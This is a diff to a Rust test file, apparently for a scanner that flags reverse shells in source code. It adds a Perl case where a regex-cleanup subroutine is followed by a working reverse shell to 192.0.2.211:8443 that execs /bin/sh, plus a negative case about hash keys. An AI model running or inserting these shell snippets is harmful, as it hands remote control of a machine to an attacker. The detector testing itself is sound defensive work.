@@ -440,6 +440,10 @@ fn a_shell_that_is_started_in_another_spelling_is_tied_to_the_socket_all_the_sam
         ),
         (
             Perl,
+            "sub fix {\nmy ($raw) = @_;\n$raw =~ s/(pages\\s*=\\s*[{\"]\\s*\\d+)/$1--/g;\n$raw =~ s{^'}{\"};\n$raw =~ tr/'/\"/;\ns|\\|'||g for @x;\nreturn $raw;\n}\nmy $c = IO::Socket::INET->new('192.0.2.211:8443');\nopen(STDIN, '<&', $c);\nopen(STDOUT, '>&', $c);\nexec '/bin/sh', '-i';\n",
+        ),
+        (
+            Perl,
             "my $c = IO::Socket::INET->new('192.0.2.211:8443');\nopen(STDIN, '<&', $c);\nopen(STDOUT, '>&', $c);\nmy $s = '/bin/bash';\nexec {$s} $s, '-i';\n",
         ),
         (
@@ -454,6 +458,7 @@ fn a_shell_that_is_started_in_another_spelling_is_tied_to_the_socket_all_the_sam
         assert!(rules(dialect, text).contains(&Rule::ReverseShell), "{text}");
     }
     for (dialect, text) in [
+        (Perl, "my %h = (s => 'a', y => 'b');\nprint $h{s}, $h{y};\nmy $k = $o->s / 2;\n"),
         (Perl, "exec { 'git' } 'git', 'status';\nsystem { $ARGV[0] } @ARGV;\n"),
         (
             Go,
